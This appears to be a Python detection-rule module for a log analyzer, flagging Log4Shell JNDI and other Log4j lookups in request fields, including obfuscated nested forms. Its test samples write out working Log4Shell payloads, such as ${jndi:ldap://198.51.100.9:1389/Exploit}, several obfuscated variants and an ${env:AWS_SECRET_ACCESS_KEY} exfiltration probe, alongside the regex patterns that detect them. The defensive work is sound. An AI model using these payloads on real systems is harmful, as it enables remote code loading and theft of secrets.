"""Log4Shell (CVE-2021-44228 family): JNDI lookups, including obfuscated ones, in any field."""

from __future__ import annotations

import operator
import re
from typing import ClassVar

from lwsyslog.events import Event
from lwsyslog.matching.linear import Regex, linear_search
from lwsyslog.normalize import EventView
from lwsyslog.rules.base import BOTH, PAYLOAD_FIELDS, PatternRule, Rule, RuleMatch
from lwsyslog.rules.samples import AccessSample, ErrorSample
from lwsyslog.severity import Severity

__all__ = ["Log4ShellJndi", "Log4ShellLookup", "resolve_lookups"]

# Lookups that evaluate to a literal: ${lower:j}, ${upper:J}, ${::-j}, ${env:X:-j}, ${date:'j'}.
_CASE_LOOKUP = re.compile(r"\$\{\s*(?:lower|upper)\s*:([^${}]{0,64})\}")
# Log4j splits a lookup at its first ":-" (``${a:b:c:d:e:-n}`` is "n" whatever comes before):
# the name is text without ":-": characters but ":", or a run of colons and one character but
# ":" or "-". Each piece of the name can be read one way only (a run of colons is taken whole),
# so a failed match backtracks a step per piece, and the body holds no "$", "{" or "}": each
# "${" is read up to the next of those at most. The work stays linear in the text. (Not a
# possessive loop: Python 3.11's fails on this alternation.)
_DEFAULT_LOOKUP = re.compile(r"\$\{(?:[^${}:]|:+[^${}:-])*:+-([^${}]{0,64})\}")
_DATE_LOOKUP = re.compile(r"\$\{\s*date\s*:\s*'([^'${}]{0,64})'\s*\}")
_JNDI = linear_search(Regex(r"\$\{\s*jndi\s*:[^}\s]*"))
# Whether any of those lookups is left (their bodies unbounded: a necessary condition): most
# texts with "${" have none, and the substitutions, which try every "${", are skipped.
_ANY_LOOKUP = linear_search(
    Regex(
        r"\$\{\s*(?:lower|upper)\s*:[^${}]*\}|\$\{(?:[^${}:]*:)+-[^${}]*\}"
        r"|\$\{\s*date\s*:\s*'[^'${}]*'\s*\}"
    )
)
_MAX_PASSES = 6
#: Lookups resolved in one field at most. Past that the field is a flood of lookups, which no
#: client sends but to hide one: it is reported as a JNDI lookup (the rule fails closed), and
#: resolving them all (8 KB of "${::-j}" is 888 of them, 190 us) is not paid.
MAX_LOOKUPS = 256
#: Characters of a lookup flood shown as the fragment.
_FLOOD_FRAGMENT = 64
# The replacement of each lookup by its letters: a C function of the match (a template such
# as r"\1" is expanded by Python code per match, 0.6 us each: 500 us over 8 KB of lookups).
_LETTERS = operator.itemgetter(1)
# Each substitution with the keywords one of which it cannot match without, in order.
_SUBSTITUTIONS = (
    (("lower", "upper"), _CASE_LOOKUP),
    ((":-",), _DEFAULT_LOOKUP),
    (("date",), _DATE_LOOKUP),
)


def resolve_lookups(text: str) -> str | None:
    """``text`` with the Log4j lookups that only spell out letters replaced by those letters,
    or ``None`` when it holds more than :data:`MAX_LOOKUPS` of them.

    This is how ``${${lower:j}ndi:`` or ``${${::-j}${::-n}${::-d}${::-i}:`` become ``${jndi:``;
    innermost lookups first, a bounded number of passes.
    """
    left = MAX_LOOKUPS
    for _ in range(_MAX_PASSES):
        if _ANY_LOOKUP.search(text) is None:
            break
        # Each substitution tries every "${"; one whose keyword is absent cannot match.
        resolved = text
        for keywords, lookup in _SUBSTITUTIONS:
            if any(keyword in resolved for keyword in keywords):
                resolved, done = lookup.subn(_LETTERS, resolved, count=left + 1)
                left -= done
                if left < 0:
                    return None
        if resolved == text:
            break
        text = resolved
    return text


class Log4ShellJndi(Rule):
    """``${jndi:...}`` after resolving obfuscating lookups, in any client-controlled field."""

    id = "log4shell-jndi"
    cves = ("CVE-2021-44228", "CVE-2021-45046")
    categories = ("log4shell",)
    severity = Severity.CRITICAL
    description = "JNDI lookup ${jndi:...} (Log4Shell), also obfuscated with nested lookups"
    logs = BOTH
    # And the authenticated user (%u): a Basic-auth user name is the client's text too.
    fields: ClassVar[tuple[str, ...]] = (*PAYLOAD_FIELDS, "user")
    triggers = dict.fromkeys(fields, r"\$\{")
    gate = "{"
    field_local = True
    must_match = (
        AccessSample(target="/", user_agent="${jndi:ldap://198.51.100.9:1389/Exploit}"),
        AccessSample(target="/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D"),
        AccessSample(target="/", referer="${${lower:j}ndi:${lower:r}mi://198.51.100.9/x}"),
        AccessSample(target="/", cookie="id=${${::-j}${::-n}${::-d}${::-i}:dns://x.example/a}"),
        AccessSample(target="/", headers=(("X-Api-Version", "${jndi:ldap://198.51.100.9/a}"),)),
        AccessSample(
            target="/", user_agent="${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}"
        ),
        ErrorSample(message="File does not exist: /var/www/html/${jndi:ldap://x.example/a}"),
        AccessSample(target="/", user_agent="${${date:'j'}${upper:n}di:ldap://x.example/a}"),
        AccessSample(target="/private/", status=401, user="${jndi:ldap://198.51.100.9/a}"),
        AccessSample(target="/", user_agent="${j${a:b:c:d:e:-n}di:ldap://198.51.100.9/a}"),
        AccessSample(target="/", user_agent="${j${::::::-n}di:ldap://198.51.100.9/a}"),
    )
    must_not_match = (
        AccessSample(target="/docs/jndi-datasource-howto"),
        AccessSample(target="/tpl?name=${user.name}"),
        AccessSample(target="/private/", user="jndi.admin"),
        AccessSample(target="/", user_agent="${x:-j}ndi:ldap://x.example/a"),
    )

    def match_field(self, field: str, text: str) -> str | None:
        """``${jndi:...`` in ``text`` once its lookups are resolved (the start of the field
        when it is a flood of lookups)."""
        if "${" not in text:
            return None
        resolved = resolve_lookups(text)
        if resolved is None:
            start = text.find("${")
            return text[start : start + _FLOOD_FRAGMENT]
        return _JNDI.search(resolved)

    def evaluate(self, event: Event, view: EventView) -> RuleMatch | None:
        """The first field holding a JNDI lookup."""
        return self.first_match(self.fields, view.lower)


class Log4ShellLookup(PatternRule):
    """Other Log4j lookups (``${env:``, ``${sys:``...) used to probe or exfiltrate via logs."""

    id = "log4shell-lookup"
    cves = ("CVE-2021-44228", "CVE-2021-45046")
    categories = ("log4shell",)
    severity = Severity.HIGH
    description = "Log4j lookup syntax (${env:, ${sys:, ${lower:, nested ${${) in a request"
    logs = BOTH
    fields = (*PAYLOAD_FIELDS, "user")
    pattern = Regex(
        r"\$\{\s*(?:env|sys|java|lower|upper|date|ctx|main|base64|k8s|docker|spring|bundle|marker"
        r"|sd|web|log4j|jvmrunargs|event|::-)\s*:|\$\{\s*\$\{"
        # A default-value lookup (``${x:-n}``) inside another lookup: letters spelt out.
        r"|\$\{[^{}]*\$\{[^${}]*:-"
    )
    trigger = r"\$\{"
    gate = "{"
    must_match = (
        AccessSample(target="/", user_agent="${env:AWS_SECRET_ACCESS_KEY}"),
        AccessSample(target="/?q=%24%7B%24%7Bsys%3Auser.name%7D%7D"),
        AccessSample(target="/private/", status=401, user="${env:USER}"),
        AccessSample(target="/", user_agent="${j${a:b:c:d:e:-n}di:ldap://198.51.100.9/a}"),
    )
    must_not_match = (
        AccessSample(target="/pricing?currency=$"),
        AccessSample(target="/tpl?name=${user.name}"),
        AccessSample(target="/", user_agent="Mozilla/5.0 ${HOME:-/root} (X11; Linux x86_64)"),
        AccessSample(target="/tpl?a=${user.name}&b=${greeting:-hello}"),
    )
